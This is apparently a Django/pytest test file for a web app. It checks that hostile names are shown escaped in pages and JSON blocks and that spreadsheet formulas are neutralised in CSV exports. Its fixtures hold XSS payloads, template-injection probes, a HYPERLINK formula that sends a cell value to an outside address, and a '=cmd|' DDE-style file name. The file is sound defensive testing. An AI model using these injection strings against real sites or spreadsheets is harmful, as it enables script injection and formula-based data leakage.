"""Names that are programs: shown as what they are, in pages, in blocks for scripts, and in files for spreadsheets."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from django.test import Client

from manumit.base.kernel import Settings
from manumit.doors.web.accounts.models import User
from manumit.doors.web.desk.models import Job, SavedSearch, Watchlist, Workspace, WorkspaceMember
from manumit.engine.job import run_job
from manumit.engine.lookup import Lookup
from tests.doors.web.conftest import Signed
from tests.doors.web.silence import Silent

pytestmark = pytest.mark.django_db
SVG = "<svg onload=alert(1)><script>alert(2)</script>"
BREAK = '"></script><img src=x onerror=alert(3)>\'{{7*7}}{% now "Y" %}'
FORMULA = '=HYPERLINK("https://example.org/?"&A1;"here")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Adverts and an account whose every cell is markup or a formula; files with such names that cannot be read."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = [
        ("ad_id", "posted_at", "source", "title", "text", "location", "contact"),
        ("a1", "2026-03-01T10:00:00Z", SVG, SVG, f"{BREAK} gentle hands", SVG, "+44 7700 900123"),
        ("a2", "2026-03-02T10:00:00Z", BREAK, FORMULA, f"{SVG} gentle hands", BREAK, "+44 7700 900123"),
    ]
    with (folder / "ads.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    accounts = [
        ("account_id", "opened_at", "kind", "holder_name"),
        (BREAK, "2026-01-01T00:00:00Z", "person", SVG),
    ]
    with (folder / "accounts.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(accounts)
    (folder / "=cmd|' 'A0.csv").write_bytes(b"\x00\x01\x02")
    (folder / "<svg onload=alert(9)>.csv").write_bytes(b"neither,this,nor\r\n1,2,3\r\n")
    run_job([folder], folder / "workspace", Settings(), Silent())
    return folder


@pytest.fixture
def client_in(hostile: Path, signed: Signed, person: Callable[..., User], workspace: Workspace) -> Client:
    """Somebody with a hostile name, in a workspace with one."""
    place = Workspace.objects.create(slug="odd", name=SVG, folder=str(hostile / "workspace"))
    user = person("investigator")
    User.objects.filter(pk=user.pk).update(first_name=SVG[:140], last_name=BREAK[:140])
    WorkspaceMember.objects.create(workspace=place, user=user)
    SavedSearch.objects.create(workspace=place, user=user, name=SVG, query="q=<svg onload=alert(4)>")
    Watchlist.objects.create(
        workspace=place, user=user, name=SVG, reason=BREAK, expires_on="2099-01-01", entries=[]
    )
    Job.objects.create(
        workspace=place,
        asked_by=user,
        state="failed",
        inputs=[str(hostile)],
        result={"records": {"ad": 2}},
        error={"code": "failure", "sentence": SVG, "hint": BREAK},
    )
    return signed(user=user)


def test_markup_in_names_is_shown_and_does_not_run(client_in: Client, hostile: Path) -> None:
    found = Lookup(hostile / "workspace")
    hits = found.search("gentle")
    assert hits.records
    pages = [
        "/home",
        "/me",
        "/w/odd/leads",
        "/w/odd/jobs",
        "/w/odd/watch",
        f"/w/odd/search?q={SVG}&from={BREAK}",
    ]
    pages += ["/w/odd/search?q=gentle", "/w/odd/search?q=alert", f"/w/odd/jobs/{Job.objects.get().pk}"]
    pages += [f"/w/odd/watch/{Watchlist.objects.get().pk}", f"/w/odd/leads?kind={SVG}&page={BREAK}"]
    pages += [f"/w/odd/records/{hit.record.record_id}" for hit in hits.records]
    for hit in hits.records:
        pages += [f"/w/odd/entities/{one.entity_id}" for one, _ in found.entities_of(hit.record.record_id)]
    shown = 0
    for address in pages:
        answer = client_in.get(address)
        assert answer.status_code == 200, address
        page = answer.content.decode()
        shown += page.count("&lt;svg onload=alert(")
        for wrong in ("<svg onload", "<script>alert", "<img src=x", '"></script><img'):
            assert wrong not in page, (address, wrong)
        for block in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.DOTALL):
            assert "<" not in block
            json.loads(block)
    assert shown > 10


def test_a_scene_says_names_as_they_are(client_in: Client, hostile: Path) -> None:
    """JSON with its own type, which browsers do not take for a page."""
    found = Lookup(hostile / "workspace")
    record = found.search("gentle").records[0].record.record_id
    entity = found.entities_of(record)[0][0].entity_id
    answer = client_in.get(f"/w/odd/entities/{entity}/scene.json")
    assert answer["Content-Type"] == "application/json"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer.json()["nodes"]


def test_no_cell_of_an_export_is_run_by_a_spreadsheet(client_in: Client) -> None:
    answer = client_in.get(f"/w/odd/jobs/{Job.objects.get().pk}/quarantine.csv")
    text = b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(text)))
    assert any("=cmd" in row[0] for row in rows[1:])
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert answer["Content-Disposition"].startswith("attachment")
